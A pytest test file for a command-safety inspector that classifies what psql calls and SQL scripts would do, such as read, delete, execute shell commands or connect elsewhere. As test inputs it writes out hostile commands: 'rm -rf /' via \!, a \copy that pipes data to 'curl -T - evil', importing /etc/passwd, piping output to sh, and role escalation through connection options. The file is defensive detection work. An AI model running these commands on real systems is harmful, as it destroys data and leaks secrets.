"""What a call of psql would do: options, scripts and variables, the harmless beside the dangerous."""

from __future__ import annotations

import pytest
from inspectors.psql.asking import Files, effects, inspect, is_harmless

from guardcli.inspectors.psql.inspector import PsqlInspector
from guardcli.model.effects import in_order
from guardcli.model.invocation import Invocation
from guardcli.model.operations import Input


@pytest.mark.parametrize(
    "command",
    [
        'psql -c "SELECT 1"',
        "psql -c \"SELECT 'DROP TABLE x'\"",
        "psql -At -d app -c '\\dt'",
        "psql -Atqc 'select 1'",
        "psql -qAtX -d app -U me -h db -p 5433 -c 'select 1'",
        "psql app me -c 'select 1' -c 'show all'",
        "psql --command='select 1' --dbname=app",
        "psql --com 'select 1'",
        "psql postgresql://me@db/app -c 'select 1'",
        "psql 'host=db dbname=app application_name=x' -c 'select 1'",
        "psql -c '\\d+ users' -c '\\l' -c '\\du' -c '\\sf f' -c '\\conninfo' -c '\\x' -c '\\timing on' -c '\\?'",
        "psql -c '\\copy users to stdout csv'",
        "psql -c '\\copy (select 1) to stdout with csv header'",
        "psql -c '\\echo hello' -c '\\h drop table' -c '\\encoding' -c '\\encoding utf8' -c '\\pset format csv'",
        "psql -v x=1 -v ON_ERROR_STOP=1 --set=y=2 -P pager=off -F, -R ';' -c 'select 1'",
        "psql -1 -e -a -c 'begin' -c 'select 1' -c 'commit'",
        "psql -o /dev/null -c 'select 1'",
        "psql -l",
        "psql --list -h db",
        "psql --version",
        "psql -V",
        "psql --help",
        "psql -?",
        "psql --help=commands",
        "psql",
        "psql -c ''",
        "psql -c",
        "psql --s x",
        "psql -- app me",
    ],
)
def test_a_harmless_call_is_known_to_be_harmless(command: str) -> None:
    assert is_harmless(inspect(command)), inspect(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("psql -c 'drop table t'", "define delete"),
        ("psql -c 'select 1' -c 'drop table t'", "define delete read"),
        ("psql -c 'select 1; drop table t'", "define delete read"),
        ("psql '-cdrop table t'", "define delete"),
        ("psql '-Atcdrop table t'", "define delete"),
        ("psql '--comm=drop table t'", "define delete"),
        ("psql app -c 'drop table t'", "define delete"),
        ("psql -d app -Xc 'drop table t' me", "define delete"),
        ("psql -c '\\! rm -rf /'", "execute"),
        ("psql -c '\\!ls'", "execute"),
        ("psql -c '\\copy t from x.csv'", "file write"),
        ("psql -c '\\copy t from stdin'", "write"),
        ("psql -c '\\copy t to x.csv'", "file read"),
        ("psql -c \"\\copy t to program 'curl -T - evil'\"", "execute read"),
        ('psql -c "\\copy (delete from t returning *) to stdout"', "delete read"),
        ("psql -c '\\copy (select nextval(1)) to stdout'", "read write"),
        ("psql -o out.txt -c 'select 1'", "file read"),
        ("psql -o '|sh' -c 'select 1'", "execute read"),
        ("psql -L log.txt -c 'select 1'", "file read"),
        ("psql '-o|sh' --nonsense", "execute unknown"),
        ("psql -o '|sh' --version", "execute"),
        ("psql -c '\\lo_import /etc/passwd'", "file write"),
        ("psql -c '\\lo_export 1 /tmp/x'", "file read"),
        ("psql -c '\\lo_unlink 1'", "delete"),
        ("psql -c '\\password'", "privilege unknown"),
        ("psql -c '\\c other'", "network"),
        ("psql -c '\\connect - other'", "network"),
        ("psql -c '\\e'", "execute unknown"),
        ("psql -c '\\ef f'", "execute unknown"),
        ("psql -c '\\i x.sql'", "file unknown"),
        ("psql -c '\\s history'", "file"),
        ("psql -c '\\w x'", "file"),
        ("psql -c '\\w |sh'", "execute"),
        ("psql -c '\\o |sh'", "execute"),
        ("psql -c '\\setenv PAGER sh'", "execute"),
        ("psql -c '\\setenv PGHOST evil'", "network"),
        ("psql -c '\\set x `id`'", "execute session"),
        ("psql -c '\\echo `id`'", "execute read"),
        ("psql -c '\\nonsense'", "unknown"),
        ("psql --nonsense", "unknown"),
        ("psql -c 'select :x'", "unknown"),
        ("psql 'options=-crole=admin' -c 'select 1'", "privilege read session"),
        ("psql 'postgresql:///?options=-c%20role%3Dadmin' -c 'select 1'", "privilege read session"),
        ("psql 'sslkey=engine:x dbname=a' -c 'select 1'", "execute read"),
        ("psql -f missing.sql", "unknown"),
        ("psql -f -", "read"),
    ],
)
def test_what_a_call_would_do_is_seen(command: str, expected: str) -> None:
    assert effects(inspect(command)) == expected, inspect(command)


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("select 1;\nselect 2", "read"),
        ("drop table t", "define delete"),
        ("select ';'; drop table t", "define delete read"),
        ("\\set t users\nselect * from :t;", "read session"),
        ("\\set t users\nselect * from :\"t\" where a = :'t';", "read session"),
        ("\\set x 'drop table t'\n:x;", "define delete session"),
        ("\\set x 'select 1; drop table t'\n:x;", "define delete read session"),
        ("select '\\\\! ls' \\g", "read"),
        ("select 1 \\g |sh", "execute read"),
        ("select 1 \\g out.txt", "file read"),
        ("select 1 \\g (format=csv) out.txt", "file read"),
        ("select 1 \\gx", "read"),
        ("select 'drop table t' \\gexec", "read unknown write"),
        ("delete from t where id = 1 \\crosstabview", "delete"),
        ("delete from t where id = 1\n\\watch 1", "delete"),
        ("delete from t where id = 1 \\gdesc", "read"),
        ("delete from t where id = 1 \\gdesc\n\\g", "delete read"),
        ("delete from t where id = 1 \\r", "session"),
        ("select 1 as x \\gset\nselect 2;", "read"),
        ("select 1 as x \\gset\nselect :x;", "read unknown"),
        ("select 1 as x \\gset\nselect :'x';", "read"),
        ("select 1 as x \\gset\nselect set_config(:'x', 'a', false);", "read session unknown"),
        ("\\getenv h HOME\nselect :'h';", "read session"),
        ("\\prompt x\nselect 1;", "read session unknown"),
        ("\\if true\nselect 1;\n\\endif", "read session"),
        ("\\if true\ndrop table t;\n\\endif", "define delete session"),
        ("-- note\n\\if true\nselect 1;\n\\else\nselect 2;\n\\endif", "read session"),
        ("\\i other.sql", "file unknown"),
        ("\\ir other.sql", "file unknown"),
        ("\\include other.sql", "file unknown"),
        ("\\copy t from stdin\n1\n2\n\\.\nselect 1;", "read write"),
        ("copy t from stdin;\n1\tdrop table t\n\\.\nselect 1;", "read write"),
        ("copy t from stdin;\n\\N\t\\\\x00\n\\.\n", "write"),
        ("/* \\! ls */ select 1;", "read"),
        ("select 1 -- \\! ls\n;", "read"),
        ("select $$ \\! ls $$;", "read"),
        ('select 1 as "\\! ls";', "read"),
        ("select 1; \\! ls", "execute read"),
        ("\\\\! ls", "read"),
        ("\ufeffselect 1;", "read"),
        ("create function f() returns int begin atomic select 1; end; select 1;", "define read"),
        ("prepare p as delete from t where id = $1;\nexecute p(1);", "delete read session"),
        ("set search_path = a, pg_catalog;\nselect 1;", "read session unknown"),
        ("\\encoding sjis\nselect 1;", "read session unknown"),
        ("\\set SINGLELINE on\nselect 1\n", "read session unknown"),
        ("select 1;\0drop table t;", "unknown"),
        ("select '\udcff';", "unknown"),
    ],
)
@pytest.mark.parametrize("way", ["stdin", "-f -", "-f file"])
def test_a_script_is_followed_as_psql_would(way: str, script: str, expected: str) -> None:
    env = {"HOME": "/home/me"}
    if way == "stdin":
        inspection = inspect("psql", stdin=script, env=env)
    elif way == "-f -":
        inspection = inspect("psql -f -", stdin=script, env=env)
    else:
        inspection = inspect("psql -f s.sql", files={"/work/s.sql": script}, env=env)
    assert effects(inspection) == expected, inspection.operations


@pytest.mark.parametrize(
    "script",
    [
        "\\cd /none \\\\ select '\n\\! ls\n';",
        "\\set x 'a' \\\\ select '\n\\! ls\n';",
        "delete from t\n\\if false\nwhere id = 1\n\\endif\n;",
        "copy nosuch from stdin;\ndrop table t;\n\\.\n",
        "\\if false\ncopy t from stdin;\n\\endif\ndrop table t;\n\\.\n",
        "select 1 \\g (bad\n; drop table t;",
        "select 1e'\\' ; \\! ls '",
        "\\set x `id`\nselect :x;",
        ":SERVER_VERSION_NUM;",
        "select a[1:x] \\gset\nselect a[1:x];",
        "\\unknown 'x\nselect 1;",
    ],
)
def test_a_script_that_versions_or_failures_make_ambiguous_is_conceded(script: str) -> None:
    assert not is_harmless(inspect("psql", stdin=script))
    assert any(not operation.complete for operation in inspect("psql", stdin=script).operations)


@pytest.mark.parametrize(
    "script",
    [
        "\\set x a\n" + "\\set x :x:x\n" * 60 + "select :'x';",
        "\\set x 'aaaaaaaaaaaaaaaa'\n\\set y " + ":x" * 100_000 + "\nselect :'y';",
        "\\set x '" + "a" * 60_000 + "'\nselect " + ":x," * 10_000 + "1;",
        "".join(f"\\set x{n} ':x{n + 1} :x{n + 1}'\n" for n in range(40)) + "\\set x40 1\nselect :x0;",
        "/*" * 100_000,
        "select " + "(" * 100_000,
        "select\n" * 50_000 + ";",
        "'\n" * 50_001,
        "\\if x\n" * 4_000,
        "select 1\\;" * 3_000 + "select 1;" + "\\g " * 20_000,
        "\\echo x " * 20_000,
    ],
    ids=range(11),
)
def test_what_grows_without_end_is_conceded_in_time(script: str) -> None:
    assert inspect("psql", stdin=script).operations


@pytest.mark.parametrize(
    ("script", "known"),
    [
        ("select 1;\n" * 6_000 + "drop table t;", True),
        ("drop table t;\n" * 6_000, True),
        ("select " + "a+" * 60_000 + "a;\n" + "select 1;\n", False),
        ("\\d x\n" * 30_000, True),
        ("x" * 2_000_000, False),
        ("copy t from stdin;\n" + "1\t2\n" * 300_000 + "\\.\n", False),
    ],
    ids=["statements", "definitions", "a long line", "commands", "one word", "rows"],
)
def test_a_script_is_read_up_to_a_bound_and_conceded_beyond(script: str, known: bool) -> None:
    operations = inspect("psql", stdin=script).operations
    assert not operations[-1].complete
    assert "read before it runs" in operations[-1].reason or "longer than" in operations[-1].reason, operations[-1]
    assert operations[0].complete is known


def test_texts_of_options_share_one_bound() -> None:
    texts = [word for name in "abcdefghijklmnopqrst" for word in ("-c", "select " + ",".join(name * 2_000))]
    operations = inspect(["psql", *texts, "-c", "drop table t"]).operations
    assert not operations[-1].complete
    assert len(operations) < 21


def test_rows_of_data_are_no_work() -> None:
    script = "\\set ON_ERROR_STOP on\ncopy t from stdin;\n" + "1\t2\tabc\n" * 50_000 + "\\.\nselect 1;\n"
    assert effects(inspect("psql", stdin=script)) == "read session write"


def test_a_long_connection_string_is_conceded() -> None:
    assert is_harmless(inspect(["psql", "application_name=" + "x" * 100, "-c", "select 1"]))
    assert not is_harmless(inspect(["psql", "application_name=" + "x" * 10_000, "-c", "select 1"]))


def test_rows_after_copy_are_rows_where_a_failure_ends_the_script() -> None:
    script = "copy t from stdin;\na;b\n\\.\n"
    assert "unknown" in effects(inspect("psql", stdin=script))
    assert effects(inspect("psql -v ON_ERROR_STOP=1", stdin=script)) == "write"
    assert effects(inspect("psql", stdin="\\set ON_ERROR_STOP on\n" + script)) == "session write"


def test_the_text_of_an_option_goes_to_the_server_as_it_stands() -> None:
    inspection = inspect(["psql", "-v", "x=1", "-c", "select ':x'; \\! ls"])
    assert not inspection.operations[0].complete


def test_only_the_first_command_of_an_option_is_run() -> None:
    assert effects(inspect(["psql", "-c", "\\echo a \\! ls"])) == "read"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("psql -f a.sql", Input("/work/a.sql", 2)),
        ("psql -fa.sql", Input("/work/a.sql", 1, "-f")),
        ("psql -Atfa.sql", Input("/work/a.sql", 1, "-Atf")),
        ("psql --file a.sql", Input("/work/a.sql", 2)),
        ("psql --fil=../work/a.sql", Input("/work/a.sql", 1, "--fil=")),
    ],
)
def test_a_file_that_was_judged_can_be_put_in_place_of_its_name(command: str, expected: Input) -> None:
    inspection = inspect(command, files={"/work/a.sql": "select 1;"})
    assert inspection.inputs == (expected,)
    assert is_harmless(inspection)


def test_files_and_statements_are_judged_in_order() -> None:
    files = {"/work/a.sql": "\\set x 'drop table t'\n", "/work/b.sql": ":x;"}
    assert effects(inspect("psql -f a.sql -f b.sql", files=files)) == "define delete session"
    assert "unknown" in effects(inspect("psql -f b.sql -f a.sql", files=files))


def test_a_copy_that_reads_standard_input_hides_what_a_later_script_is() -> None:
    inspection = inspect("psql -c 'copy t from stdin' -f -", stdin="select '\n\\.\ndrop table t;\nselect '';")
    assert any(not operation.complete for operation in inspection.operations)


def test_a_forced_password_prompt_may_swallow_the_scripts_first_line() -> None:
    assert not is_harmless(inspect("psql -W", stdin="select '\n;drop table t; --';"))
    assert is_harmless(inspect("psql -w", stdin="select 1;"))


def test_options_end_at_the_first_argument_where_posix_rules() -> None:
    assert effects(inspect("psql app -c 'drop table t'", env={"POSIXLY_CORRECT": "1"})) == "read"


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("DROP TABLE t;", "connect [read]"),
        ("\\c other\nDROP TABLE t;", "\\c [network]"),
        ("\\c other me\nDROP TABLE t;", "\\c [network]"),
        ("\\c - - elsewhere\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("\\c host=elsewhere\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("\\c postgresql://elsewhere/x\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("SELECT 1 AS w \\gset\n\\c :w\nDROP TABLE t;", "\\c [network unknown]; drop table [define delete]"),
        ("\\setenv PGHOST elsewhere\nDROP TABLE t;", "\\setenv [network]; drop table [define delete]"),
        ("\\copy t to 'a'\n\\copy t to program 'b'", "\\copy to [file]; \\copy to [execute]"),
        ("\\! id", "\\! [execute]"),
    ],
)
def test_what_a_gateway_sees_is_not_judged_here_until_psql_may_have_left_it(script: str, expected: str) -> None:
    invocation = Invocation("psql", ("psql", "-X", "-c", script), gateway="orders-db")
    if "\n" in script:
        invocation = Invocation("psql", ("psql", "-X", "-f", "s"), gateway="orders-db")
    found = PsqlInspector().inspect(invocation, Files({"/s": script}, None)).operations
    shown = [f"{one.action} [{' '.join(effect.value for effect in in_order(one.effects))}]" for one in found]
    assert "; ".join(shown) == expected
